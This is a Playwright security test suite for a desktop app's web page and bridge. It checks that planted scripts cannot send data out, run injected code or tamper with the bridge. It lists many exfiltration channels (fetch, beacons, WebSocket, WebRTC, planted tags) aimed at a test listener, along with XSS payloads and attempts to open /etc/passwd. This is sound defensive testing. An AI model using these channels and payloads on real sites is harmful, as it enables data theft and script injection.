import type { Page } from '@playwright/test'
import { connect, go, rowOf } from '../../tools/administrator.ts'
import { expect, test } from './fixture.ts'
import { type Listening, listen } from './listening.ts'

let listening: Listening
test.beforeEach(async () => {
  listening = await listen()
})
test.afterEach(() => listening.stop())

type Attempt = readonly [name: string, run: (at: string) => unknown]

/** What a script in the page would try to send something out. Each is run there; `at` is where somebody listens. */
const waysOut: readonly Attempt[] = [
  ['fetch', at => fetch(`http://${at}/`, { method: 'POST', body: 'secret', mode: 'no-cors' })],
  ['fetch that stays', at => fetch(`http://${at}/`, { keepalive: true, mode: 'no-cors' })],
  [
    'XMLHttpRequest',
    at =>
      new Promise((_, reject) => {
        const request = new XMLHttpRequest()
        request.onerror = reject
        request.open('GET', `http://${at}/`)
        request.send()
      }),
  ],
  ['beacon', at => navigator.sendBeacon(`http://${at}/`, 'secret')],
  ['WebSocket', at => void new WebSocket(`ws://${at}/`)],
  ['EventSource', at => void new EventSource(`http://${at}/`)],
  ['WebTransport', at => new WebTransport(`https://${at}/`).ready],
  [
    'WebRTC',
    async at => {
      const peer = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:${at}` },
          { urls: `turn:${at}?transport=tcp`, username: 'secret', credential: 'secret' },
        ],
      })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
      await new Promise(resolve => setTimeout(resolve, 1_000))
      peer.close()
    },
  ],
  ['image', at => void Object.assign(new Image(), { src: `http://${at}/` })],
  ['font', at => new FontFace('x', `url(http://${at}/)`).load()],
  ['module', at => import(/* @vite-ignore */ `http://${at}/x.js`)],
  ['worker', at => void new Worker(`http://${at}/x.js`)],
  [
    'worker of a blob',
    at => {
      const blob = new Blob([`fetch('http://${at}/')`], { type: 'text/javascript' })
      return void new Worker(URL.createObjectURL(blob))
    },
  ],
  ['service worker', () => navigator.serviceWorker.register('/assets/index.js')],
  ['new window', at => window.open(`http://${at}/`)],
  ['worklet', at => CSS && new AudioContext().audioWorklet.addModule(`http://${at}/x.js`)],
  [
    'payment',
    at =>
      new PaymentRequest([{ supportedMethods: `https://${at}/` }], {
        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
      }).canMakePayment(),
  ],
]

/** The same by elements: name, properties, and whether it must be clicked. */
type Tag = readonly [tag: string, attributes: Readonly<Record<string, string>>, text?: string]
const tagsOut = (at: string): readonly Tag[] => [
  ['img', { src: `http://${at}/`, srcset: `http://${at}/2 2x` }],
  ['script', { src: `http://${at}/x.js` }],
  ['link', { rel: 'stylesheet', href: `http://${at}/` }],
  ['link', { rel: 'preload', as: 'image', href: `http://${at}/` }],
  ['link', { rel: 'prefetch', href: `http://${at}/` }],
  ['link', { rel: 'modulepreload', href: `http://${at}/x.js` }],
  ['link', { rel: 'preconnect', href: `http://${at}/` }],
  ['link', { rel: 'dns-prefetch', href: `http://${at}/` }],
  ['link', { rel: 'icon', href: `http://${at}/x.png` }],
  ['link', { rel: 'manifest', href: `http://${at}/` }],
  ['iframe', { src: `http://${at}/` }],
  ['object', { data: `http://${at}/` }],
  ['embed', { src: `http://${at}/` }],
  ['video', { src: `http://${at}/`, poster: `http://${at}/` }],
  ['audio', { src: `http://${at}/` }],
  ['base', { href: `http://${at}/` }],
  ['style', {}, `@import url(http://${at}/); body { background: url(http://${at}/) }`],
  ['div', { style: `background-image: url(http://${at}/)` }, 'x'],
  ['script', {}, `fetch('http://${at}/')`],
  ['meta', { 'http-equiv': 'refresh', content: `0; url=http://${at}/` }],
]
/** And by what a person may be made to click. */
const clicksOut = (at: string): readonly Tag[] => [
  ['a', { href: `http://${at}/` }, 'go'],
  ['a', { href: `http://${at}/`, target: '_blank' }, 'go'],
  ['a', { href: '#here', ping: `http://${at}/` }, 'go'],
  ['a', { href: `http://${at}/`, download: 'x' }, 'go'],
  ['a', { href: `javascript:fetch('http://${at}/')` }, 'go'],
]

const plant = (page: Page, tags: readonly Tag[]): Promise<void> =>
  page.evaluate(
    planted => {
      for (const [tag, attributes, text = ''] of planted) {
        const element = document.createElement(tag)
        element.className = 'planted'
        try {
          for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
          element.append(text)
          document.body.append(element)
        } catch {
          // Trusted Types refused it.
        }
      }
    },
    tags as (readonly [string, Record<string, string>, string?])[],
  )

const settle = (page: Page): Promise<void> =>
  page.evaluate(() => new Promise<void>(resolve => setTimeout(resolve, 1_000)))

/** The page is where it was, and works. */
const expectWell = async (page: Page, url: string): Promise<void> => {
  expect(page.url().replace(/#.*$/, '')).toBe(url)
  await go(page, 'Settings')
  await go(page, 'Keys')
  await expect(rowOf(page, 'checkout')).toBeVisible()
}

test('a hostile script sends nothing to anybody', async ({ application, service }) => {
  test.setTimeout(180_000)
  const { page } = application
  await service.createKey('preview', { name: 'checkout' })
  await connect(page, service)
  const url = page.url()
  for (const [name, run] of waysOut) {
    await test.step(name, async () => {
      const attempt = page.evaluate(run, listening.at)
      await Promise.race([attempt.catch(() => undefined), settle(page)])
      expect(listening.heard()).toEqual([])
    })
  }
  await plant(page, tagsOut(listening.at))
  await settle(page)
  await plant(page, clicksOut(listening.at))
  await page.evaluate(() => {
    for (const link of document.querySelectorAll<HTMLAnchorElement>('a.planted')) link.click()
  })
  await settle(page)
  await page.evaluate(at => {
    const form = document.createElement('form')
    form.action = `http://${at}/`
    form.method = 'post'
    document.body.append(form)
    form.submit()
  }, listening.at)
  await settle(page)
  for (const to of [`http://${listening.at}/`, 'file:///etc/passwd', 'data:text/html,x']) {
    await page.evaluate(address => void window.location.assign(address), to)
    await settle(page)
  }
  expect(listening.heard()).toEqual([])
  await page.evaluate(() => {
    for (const element of document.querySelectorAll('.planted')) element.remove()
  })
  await expectWell(page, url)
})

test('somebody listens where nothing may come', async () => {
  await fetch(`http://${listening.at}/`).catch(() => undefined)
  expect(listening.heard()).toEqual(['a connection'])
})

test('no text becomes a script', async ({ application }) => {
  const { page } = application
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible()
  const came = await page.evaluate(async () => {
    const ran: string[] = []
    Object.assign(window, { ran: (name: string) => ran.push(name) })
    const attempts: Readonly<Record<string, () => unknown>> = {
      eval: () => Reflect.get(window, 'eval')('ran("eval")'),
      Function: () => new Function('ran("Function")')(),
      'a timer': () => Reflect.apply(setTimeout, window, ['ran("a timer")', 0]),
      'an inline script': () => {
        const script = document.createElement('script')
        script.append('ran("an inline script")')
        document.body.append(script)
      },
      'a script of data': () => {
        const script = document.createElement('script')
        script.src = 'data:text/javascript,ran("a script of data")'
        document.body.append(script)
      },
      'an attribute': () => {
        const image = document.createElement('img')
        image.setAttribute('onerror', 'ran("an attribute")')
        image.src = 'data:,'
        document.body.append(image)
      },
      innerHTML: () => {
        document.body.innerHTML = '<img src=x onerror=ran("innerHTML")>'
      },
      'markup beside': () =>
        document.body.insertAdjacentHTML('beforeend', '<b onclick=ran()>x</b>'),
      srcdoc: () => {
        const frame = document.createElement('iframe')
        frame.srcdoc = '<script>parent.ran("srcdoc")</script>'
        document.body.append(frame)
      },
      'a parser': () =>
        document.body.append(new DOMParser().parseFromString('<b>x</b>', 'text/html').body),
      'a second policy': () => Reflect.get(window, 'trustedTypes').createPolicy('other', {}),
      'the same policy once more': () =>
        Reflect.get(window, 'trustedTypes').createPolicy('default', {
          createHTML: (text: string) => text,
        }),
    }
    const words: Record<string, string> = {}
    // Whoever runs code by DevTools may use eval until its first pause.
    await new Promise(resolve => setTimeout(resolve, 0))
    for (const [name, run] of Object.entries(attempts)) {
      try {
        await run()
        words[name] = 'quiet'
      } catch (error) {
        words[name] = error instanceof Error ? error.name : 'refused'
      }
    }
    await new Promise(resolve => setTimeout(resolve, 500))
    return { ran, words }
  })
  expect(came.ran).toEqual([])
  // Those that throw: a policy that only reported would be quiet.
  const { eval: code, Function: made, innerHTML, 'a second policy': second } = came.words
  expect([code, made]).toEqual(['EvalError', 'EvalError'])
  expect([innerHTML, second]).toEqual(['TypeError', 'TypeError'])
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible()
})

test('a page that changes what everything is made of changes nothing of the bridge', async ({
  application,
}) => {
  const { page } = application
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible()
  const came = await page.evaluate(async () => {
    const seen: unknown[] = []
    const undo: (() => void)[] = []
    const spy = (target: object, name: string) => {
      const real = Reflect.get(target, name)
      undo[undo.length] = () => void Reflect.set(target, name, real)
      Reflect.set(target, name, function (this: unknown, ...parameters: unknown[]) {
        for (const value of [...parameters, this]) seen[seen.length] = value
        return Reflect.apply(real, this, parameters)
      })
    }
    for (const name of ['push', 'map', 'forEach']) spy(Array.prototype, name)
    for (const name of ['parse', 'stringify']) spy(JSON, name)
    for (const name of ['call', 'apply', 'bind']) spy(Function.prototype, name)
    spy(Promise.prototype, 'then')
    const bridge = Reflect.get(window, 'claviger')
    const answer = await bridge.request('app.info', null)
    const tried = Reflect.set(bridge, 'request', () => 'mine')
    for (const restore of undo) restore()
    return {
      ok: answer.ok,
      tried,
      electron: seen.some(
        value =>
          typeof value === 'object' &&
          value !== null &&
          'ipcRenderer' in value &&
          'sender' in value,
      ),
    }
  })
  expect(came).toEqual({ ok: true, tried: false, electron: false })
})

test('the page keeps nothing', async ({ application, service }) => {
  const { page } = application
  await service.createKey('preview', { name: 'checkout' })
  await connect(page, service)
  for (const place of ['Settings', 'Activity', 'Keys']) await go(page, place)
  const kept = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookies: document.cookie,
    databases: (await indexedDB.databases()).length,
    caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }))
  expect(kept).toEqual({ local: 0, session: 0, cookies: '', databases: 0, caches: [], workers: 0 })
})

test('a page that is flooded with requests stays, and so does main', async ({ application }) => {
  const { page } = application
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible()
  const came = await page.evaluate(async () => {
    const { request } = Reflect.get(window, 'claviger')
    const answers = await Promise.all(
      Array.from({ length: 10_000 }, () => request('app.info', null)),
    )
    return {
      answered: answers.length,
      busy: answers.filter(({ error }) => error?.code === 'busy').length,
    }
  })
  expect(came.answered).toBe(10_000)
  expect(came.busy).toBeGreaterThan(5_000)
  await expect
    .poll(() => page.evaluate(() => Reflect.get(window, 'claviger').request('app.info', null)))
    .toMatchObject({ ok: true })
})

test('a file that is dropped on the window opens nothing', async ({ application }) => {
  const { page } = application
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible()
  const url = page.url()
  const session = await page.context().newCDPSession(page)
  const data = { items: [], files: ['/etc/passwd'], dragOperationsMask: 1 }
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
    await session.send('Input.dispatchDragEvent', { type, x: 300, y: 300, data })
  await settle(page)
  expect(page.url()).toBe(url)
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible()
})
